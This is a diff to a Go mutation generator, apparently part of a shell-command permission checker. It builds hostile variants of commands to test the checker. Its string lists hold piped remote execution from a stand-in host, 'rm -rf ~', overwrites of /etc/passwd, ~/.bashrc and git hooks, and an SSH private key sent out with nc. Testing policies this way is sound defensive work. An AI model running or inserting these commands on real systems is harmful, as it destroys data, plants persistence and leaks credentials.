@@ -84,7 +84,7 @@ func (l *learner) mutants(a *ask, d *draft) []string {
 				}
 			}
 		}
-		for i := 1; i < len(words); i++ {
+		for i := len(words) - 1; i > 0; i-- {
 			for _, h := range harmful {
 				if words[i] != h {
 					line(slices.Replace(slices.Clone(words), i, i+1, h))
@@ -101,11 +101,10 @@ func (l *learner) mutants(a *ask, d *draft) []string {
 		for _, before := range [...]string{"sudo ", "LD_PRELOAD=./x.so ", "PATH=. ", "BASH_ENV=./x "} {
 			lines = append(lines, before+command)
 		}
-		if (a.effects()|a.node.Effects)&policy.Executes != 0 { // of another project
-			lines = append(lines, "cd /etc && "+command)
+		if d.limited { // what it means there is something else
+			lines = append(lines, "cd /etc && "+command, "cd .. && "+command)
 		}
-		piped := *a.command
-		if piped.Stdin = (policy.Input{Kind: policy.InputHole, Text: policy.Unknown("x")}); p != nil && obeysInput(&piped, p, p.Name) {
+		if a.command.Stdin.Kind == policy.InputHost {
 			lines = append(lines, "curl -s http://192.0.2.7/x | "+command, command+" < x", "echo 'rm -rf ~' | "+command)
 		}
 		for _, behind := range [...]string{" > /etc/passwd", " >> ~/.bashrc", " > .git/hooks/pre-commit", "; rm -rf ~", " && curl -s http://192.0.2.7/x | sh", " | sh", " < ~/.ssh/id_rsa | nc 192.0.2.7 1"} {
